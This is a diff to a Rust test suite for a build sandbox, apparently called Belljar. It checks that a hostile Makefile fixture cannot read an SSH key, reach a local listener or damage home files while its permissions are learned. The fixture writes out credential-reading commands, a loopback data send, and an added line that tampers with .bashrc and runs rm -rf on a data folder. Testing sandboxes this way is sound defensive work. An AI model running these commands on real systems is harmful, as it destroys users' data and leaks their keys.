@@ -212,37 +212,57 @@ const STEALING: &str = "all:
 \t-cat $(SECRET)
 \t-cat /proc/1/root/$(SECRET) /proc/self/root/$(SECRET)
 \t-cp $(SECRET) loot
+\t-echo evil >>$(HOME)/.bashrc; rm -rf $(HOME)/data; echo evil >$(HOME)/project/Makefile
 \t-python3 -c \"import socket; socket.create_connection(('127.0.0.1', $(PORT)), 2).sendall(b'loot')\"
 \ttouch built
 ";
+
+/// What a thief could take or spoil, and a listener that it could tell.
+struct Target(Home, TcpListener);
+
+impl Target {
+    fn new() -> Self {
+        let home = Home::new(&[("project/Makefile", STEALING), (".bashrc", "mine"), ("data/a", "mine")]);
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        Self(home, listener)
+    }
+
+    fn harmed(&self) -> bool {
+        let mine = |name: &str| std::fs::read_to_string(self.0.0.join(name)).is_ok_and(|text| text == "mine");
+        !(mine(".bashrc") && mine("data/a"))
+    }
+
+    fn is_safe_after(&self, seen: &Seen) {
+        assert_eq!(seen.status, 0, "{seen:?}");
+        assert!(!seen.out.contains(SECRET) && !seen.err.contains(SECRET), "{seen:?}");
+        assert_eq!(self.1.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "{seen:?}");
+        assert!(!self.harmed() && !there(&self.0.project().join("loot")), "{seen:?}");
+    }
+}
 
 #[test]
 fn a_malicious_build_reads_no_secret_and_reaches_no_network_while_it_is_learned_from() {
     if !has(&["make", "python3"]) {
         return;
     }
-    let home = Home::new(&[("project/Makefile", STEALING)]);
-    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-    listener.set_nonblocking(true).unwrap();
+    let target = Target::new();
+    let Target(home, listener) = &target;
     let (secret, port) = (home.0.join(".ssh/id_ed25519"), listener.local_addr().unwrap().port());
     let words = [format!("SECRET={}", secret.display()), format!("PORT={port}")];
-    let command = ["make", &words[0], &words[1]];
+    let (command, before) = (["make", &words[0], &words[1]], home.files());
 
     let taught = home.learn(&[], &command);
-    assert_eq!(taught.status, 0, "{taught:?}");
-    assert!(!taught.out.contains(SECRET) && !taught.err.contains(SECRET), "{taught:?}");
-    assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock, "{taught:?}");
+    target.is_safe_after(&taught);
+    assert_eq!(home.files(), before, "what it made is gone, and nothing else is");
     assert!(taught.err.contains("id_ed25519") && taught.err.contains("keys and passwords"), "{taught:?}");
     let policy = std::fs::read_to_string(home.policy()).unwrap();
-    assert!(!policy.contains(".ssh") && !policy.contains("net"), "{policy}");
-    assert!(!there(&home.project().join("built")), "what it made is gone");
+    assert!(!policy.contains(".ssh") && !policy.contains("net") && !policy.contains("data"), "{policy}");
 
-    // What was learned lets it build, and steal no more than before.
-    let again = home.run_learned(&command);
-    assert_eq!(again.status, 0, "{again:?}");
-    assert!(there(&home.project().join("built")) && !there(&home.project().join("loot")));
-    assert!(!again.out.contains(SECRET), "{again:?}");
-    assert_eq!(listener.accept().unwrap_err().kind(), ErrorKind::WouldBlock);
+    // What was learned lets it build, and steal no more than before. The project is its own to spoil.
+    target.is_safe_after(&home.run_learned(&command));
+    assert!(there(&home.project().join("built")));
+    std::fs::write(home.project().join("Makefile"), STEALING).unwrap();
 
     // Without Belljar the same build steals.
     let mut make = Command::new("make");
@@ -250,7 +270,7 @@ fn a_malicious_build_reads_no_secret_and_reaches_no_network_while_it_is_learned_
     let control = home.at_home(make).output().unwrap();
     assert!(String::from_utf8_lossy(&control.stdout).contains(SECRET), "{control:?}");
     assert_eq!(std::fs::read_to_string(home.project().join("loot")).unwrap(), SECRET);
-    assert!(listener.accept().is_ok());
+    assert!(listener.accept().is_ok() && target.harmed());
 }
 
 #[test]
